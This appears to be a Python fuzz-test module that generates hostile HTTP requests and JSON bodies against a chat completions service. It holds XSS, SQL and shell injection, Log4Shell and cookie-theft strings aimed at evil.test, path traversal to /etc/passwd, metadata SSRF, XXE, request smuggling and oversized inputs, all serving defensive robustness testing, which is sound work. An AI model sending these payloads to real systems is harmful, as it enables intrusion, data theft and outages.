"""Two hundred hostile inputs for the service: whole requests as bytes, some of them no request at all."""

import json
from collections.abc import Iterator
from itertools import chain
from typing import Any

from service_process import chat, post

PROOF = "quorate-pwned"
"""A file that would appear where one of them was executed."""
BASE: dict[str, Any] = {"model": "gpt-4o", "messages": [{"role": "user", "content": "Where is my order?"}]}

TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=fetch('//evil.test/'+document.cookie)>",
    "javascript:alert(1)//",
    "]]><!--<svg/onload=alert(1)>",
    "'; DROP TABLE records; --",
    "' OR '1'='1' UNION SELECT digest FROM keys --",
    "x'); DELETE FROM keys WHERE ('1'='1",
    "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "$$; COPY records TO '/tmp/x'; --",
    f"; touch {PROOF}",
    f"$(touch {PROOF})",
    f"`touch {PROOF}`",
    f"| touch {PROOF} &",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} touch {PROOF}",
    "{0.__class__.__init__.__globals__}",
    "%s%s%s%n%n%n%x",
    "{company}{contact}{nonce}{}",
    "${jndi:ldap://evil.test/a}",
    f"__import__('os').system('touch {PROOF}')",
    f'!!python/object/apply:os.system ["touch {PROOF}"]',
    "../../../../etc/passwd\0.png",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    'line one\nquorate: {"event": "run", "outcome": "done"}\nline three',
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\u202e\u2066\u200b\ufeff reversed",
    "\0\x01\x02\x03\x7f",
    "\ud800 half a pair",
    "\U000e0041\U000e0042 tags",
    "Z" + "\u0301" * 5000,
    "A" * 150_000,
    "((((((((((" * 5000,
    "a" * 40_000 + "!",
    "\n" * 100_000,
    "[[flag:scope]]",
    "data: [DONE]\n\ndata: {}",
    'data: {"error": 1}\n\n: held\n\n',
    "=cmd|' /C calc'!A0",
    "\\u0000\\ud800",
    "NaN", "null", "undefined", "true", "-1e999",
    "%00%0d%0a%2e%2e%2f",
]  # fmt: skip
NAMES = ["x-conversation-id", "x-request-id", "x-forwarded-for", "x-reason", "user-agent", "cookie", "traceparent"]
VALUES = [
    b"../../etc/passwd",
    b"'; DROP TABLE records; --",
    b"<script>alert(1)</script>",
    b"\xff\xfe\xc0\xaf",
    b"a" * 9000,
    b"\x1b[2J\x1b]0;x\x07",
]
PATHS = [
    "/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//evil.test/v1/models",
    "/v1/chat/completions/../../admin/reload", "/v1/chat/completions;/admin", "/v1/chat/completions%00",
    "/v1/chat/completions/", "/v1/models/", "/admin/", "/admin/mode/../reload", "/.git/config", "/.env",
    "/v1/%63hat/completions", "/V1/CHAT/COMPLETIONS", "/\\..\\..\\windows", "/v1/chat/completions?x=<script>",
    "/?" + "a" * 30_000, "/" + "a/" * 10_000, "/v1/files/%c0%ae%c0%ae", "/metrics/..", "/cgi-bin/;touch%20x",
    "/readyz%0d%0aX:y", "/healthz#frag", "*", "http://evil.test/healthz", "http://evil.test@localhost/v1/models",
    "ftp://localhost/", "evil.test:443", "/%", "/%zz", "http://[::1/healthz",
]  # fmt: skip


def bodies() -> Iterator[Any]:
    """JSON that is no request, or one with something wrong in it."""
    deep: Any = "x"
    for _ in range(90):
        deep = {"a": deep}
    user = BASE["messages"][0]
    yield from (None, [], 0, "x", {}, {"model": "gpt-4o"}, {"messages": BASE["messages"]})
    for change in (
        {"model": ["gpt-4o"]}, {"model": {"$ne": None}}, {"model": "../gpt-4o"}, {"model": "x" * 10_000},
        {"messages": {}}, {"messages": [None]}, {"messages": [[]]}, {"messages": [{"role": "user"}] * 499},
        {"messages": [{**user, "role": {"$gt": ""}}]}, {"messages": [{**user, "content": 5}]},
        {"messages": [{**user, "content": [{"type": "text", "text": deep}]}]},
        {"messages": [{**user, "content": [{"type": "image_url", "image_url": deep}]}]},
        {"messages": [{**user, "content": [{"type": ["text"]}]}]},
        {"messages": [{**user, "name": {"a": 1}}]}, {"messages": [{**user, "tool_call_id": [1]}]},
        {"messages": [user, {"role": "assistant", "tool_calls": [{"id": {"x": "hidden"}, "function": {}}]}]},
        {"messages": [user, {"role": "assistant", "tool_calls": "x"}]},
        {"messages": [user, {"role": "tool", "tool_call_id": 7, "content": "x"}]},
        {"messages": [user, {"role": "function", "content": "x"}]},
        {"messages": [{**user, "__proto__": {"admin": True}}]}, {"__proto__": {"stream": True}},
        {"n": 10**400}, {"n": -1}, {"n": 1.0}, {"n": True}, {"max_tokens": 2**63}, {"stream": 1}, {"stream": "true"},
        {"temperature": deep}, {"tools": deep}, {"tools": [deep]}, {"tools": [{"type": deep}]}, {"tools": [None] * 128},
        {"response_format": deep}, {"tool_choice": deep}, {"metadata": {"conversation_id": "x\r\ny: z"}},
        {"metadata": {"conversation_id": deep}}, {"metadata": deep}, {"stop": deep}, {"user": deep},
        {"functions": "x"}, {"function_call": 5}, {"web_search_options": deep}, {"logit_bias": {"1": 1e308}},
    ):  # fmt: skip
        yield BASE | change


RAW_BODIES = [
    b"", b"{", b'{"a":', b"\xff\xfe{}", b"\xef\xbb\xbf{}", b"\x1f\x8b\x08\x00", b'{"a":1}{"b":2}', b"{'a': 1}",
    b'{"model":"gpt-4o","model":"x"}', b'{"a": Infinity}', b'{"a": 1' + b"0" * 5000 + b"}", b"[" * 100_000,
    b'{"a":' * 50_000 + b"1" + b"}" * 50_000, b'{"messages":' + b"[" * 950 + b"]" * 950 + b"}",
    b'{"tools":' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}", b"\0" * 1000, b'{"model": "\xed\xa0\x80"}',
    b'"' + b"\\ud800" * 1000 + b'"', b"{" + b",".join(b'"k%d":1' % n for n in range(100_000)) + b',"z":1,"z":1}',
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]  # fmt: skip

_OK = json.dumps(BASE).encode()
_LINE = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
_NEXT = b"GET /admin/reload HTTP/1.1\r\nHost: localhost\r\n\r\n"


def _sized(*lines: bytes, body: bytes = _OK) -> bytes:
    return _LINE + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + body


def _chunked(*chunks: bytes, head: bytes = b"Transfer-Encoding: chunked\r\n") -> bytes:
    return _LINE + head + b"\r\n" + b"".join(chunks)


def protocol() -> Iterator[bytes]:
    """Requests that two servers in a row may read differently, or that are none."""
    size = b"Content-Length: %d" % len(_OK)
    piece = b"%x\r\n%s\r\n" % (len(_OK), _OK)
    yield _sized(size, b"Content-Length: 5")
    yield _sized(b"Content-Length: 5", size)
    yield _sized(size, b"Transfer-Encoding: chunked")
    yield _sized(b"Content-Length: 0", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + _NEXT)
    yield _sized(b"Content-Length: -1")
    yield _sized(b"Content-Length: +5")
    yield _sized(b"Content-Length: 5, 5")
    yield _sized(b"Content-Length: 0x10")
    yield _sized(b"Content-Length: 99999999999999999999999999")
    yield _sized(b"Content-Length: 1_0")
    yield _sized(b"Content-Length: 4000000")
    yield _sized(b"Content-Length : 5")
    yield _sized(b"Content-Length: 10") + _NEXT
    yield _sized(size, b"Transfer-Encoding: xchunked")
    yield _chunked(piece, b"0\r\n\r\n", _NEXT)
    yield _chunked(piece, b"0\r\nTrailer: x\r\nX-Admin: 1\r\n\r\n")
    yield _chunked(b"FFFFFFFFFFFFFFFFF\r\n", _OK)
    yield _chunked(b"-1\r\n", _OK)
    yield _chunked(b"5;" + b"ext=" * 20_000 + b"\r\n", _OK)
    yield _chunked(b"zz\r\n" + _OK)
    yield _chunked(b"%x\n%s\n0\n\n" % (len(_OK), _OK))
    yield _chunked(piece + b"0\r\n" + b"X: y\r\n" * 5000 + b"\r\n")
    yield _chunked(piece, b"0\r\n\r\n", head=b"Transfer-Encoding: identity, chunked\r\n")
    yield _chunked(piece, b"0\r\n\r\n", head=b"Transfer-Encoding:\x0bchunked\r\n")
    yield _chunked(piece, b"0\r\n\r\n", head=b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n")
    yield _chunked(*(b"1\r\n%c\r\n" % byte for byte in _OK), b"0\r\n\r\n")
    yield _sized(size, b"Expect: 100-continue")
    yield _sized(size, b"Expect: 200-nonsense")
    yield _sized(size, b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Key: x")
    yield _sized(size, b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: x")
    yield _sized(size, b"Content-Encoding: gzip", body=b"\x1f\x8b\x08\x00" + b"\0" * (len(_OK) - 4))
    yield _sized(size, b"X: a\r\n b: c")
    yield _sized(size, b"X\0: y")
    yield _sized(size, b"X: \0")
    yield _sized(size, b": no name")
    yield _sized(size, b"no colon")
    yield _sized(size, b"Host: evil.test")
    yield _sized(size, b"Connection: close, close, keep-alive")
    yield _sized(*[b"X-%d: y" % number for number in range(3000)], size)
    yield _sized(b"X: " + b"y" * 70_000, size)
    yield b"GET / HTTP/9.9\r\n\r\n"
    yield b"GET / HTTP/1.1\r\n\r\n"
    yield b"GET /healthz HTTP/0.9\r\n\r\n"
    yield b"GET /healthz\r\n\r\n"
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500
    yield b"\0" * 10_000
    yield b"\r\n" * 20_000
    yield b"A" * 100_000
    yield b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
    yield b"TRACE / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield b"EVIL /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500
    yield b"HEAD /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n"
    yield b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n"


def inputs() -> list[bytes]:
    """All of them."""
    headed = (
        _LINE + name.encode() + b": " + value + b"\r\nContent-Length: %d\r\n\r\n" % len(_OK) + _OK
        for name in NAMES
        for value in VALUES
    )
    lines = (f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() for path in PATHS)
    written = (chat(text) for text in TEXTS)
    streamed = (chat(text, stream=True) for text in TEXTS[:10])
    wrong = (post(json.dumps(body).encode()) for body in bodies())
    raw = (post(body) for body in RAW_BODIES)
    return list(chain(written, streamed, headed, lines, wrong, raw, protocol()))
